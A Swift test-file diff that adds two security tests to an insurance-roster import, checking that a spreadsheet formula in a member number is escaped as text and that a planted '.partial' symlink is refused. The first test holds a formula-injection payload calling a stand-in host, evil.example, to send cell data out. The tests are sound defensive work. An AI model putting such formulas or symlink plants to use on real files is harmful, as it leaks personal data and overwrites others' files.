@@ -1,6 +1,7 @@
 import Foundation
 import GRDB
 import KyoseiDomain
+import KyoseiIntake
 import KyoseiSampleData
 import KyoseiReports
 import KyoseiServices
@@ -51,6 +52,42 @@ import Testing
         #expect(reviewShare <= 0.05, "review share \(reviewShare)")
         #expect(try count("SELECT count(*) FROM enrollment WHERE resident_id IS NOT NULL") == truePositives + falsePositives)
         #expect(try count("SELECT count(*) FROM identity_review WHERE subject_entity = 'insurance_member'") == outcome.roster?.review)
+    }
+
+    /// A member number that is a formula opens as text in the match report, beside the person id.
+    @Test func aFormulaInARosterOpensAsTextInTheMatchReport() throws {
+        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
+        let attack = #"=HYPERLINK("http://evil.example/?id="&C2,"click")"#
+        let text = try String(contentsOf: roster.csvURL, encoding: .utf8)
+        try text.replacingOccurrences(of: "M000000001,", with: CSVWriter.field(attack) + ",")
+            .write(to: roster.csvURL, atomically: true, encoding: .utf8)
+        let report = city.folder.appendingPathComponent("match.csv").path
+        #expect(try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder).outcome == .applied)
+        let written = try String(contentsOfFile: report, encoding: .utf8)
+        #expect(!written.contains(",=HYPERLINK") && !written.contains("\n=HYPERLINK") && !written.contains("\"=HYPERLINK"))
+        let reader = CSVReader(text: written, fileName: "match.csv")
+        var memberNumbers: [String] = []
+        while let record = try reader.next() { memberNumbers.append(record.fields[0]) }
+        #expect(memberNumbers.contains("'" + attack))
+    }
+
+    /// A `.partial` link another user planted beside the report never receives a row.
+    @Test func aPlantedPartialLinkReceivesNothing() throws {
+        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
+        let report = city.folder.appendingPathComponent("match.csv").path
+        let planted = city.folder.appendingPathComponent("collected.csv").path
+        try FileManager.default.createSymbolicLink(atPath: report + ".partial", withDestinationPath: planted)
+        let error = #expect(throws: ServiceError.self) {
+            try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder)
+        }
+        #expect(error?.description.contains("a file or a link is already there") == true)
+        #expect(!FileManager.default.fileExists(atPath: planted))
+        #expect(!FileManager.default.fileExists(atPath: report))
+        #expect(try count("SELECT count(*) FROM enrollment") == 0, "nothing applied")
+
+        FileManager.default.createFile(atPath: planted, contents: Data("theirs\n".utf8))
+        #expect(throws: ServiceError.self) { try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder) }
+        #expect(try String(contentsOfFile: planted, encoding: .utf8) == "theirs\n")
     }
 
     @Test func theSameRosterTwiceChangesNothingAndAnOlderOneIsRefused() throws {
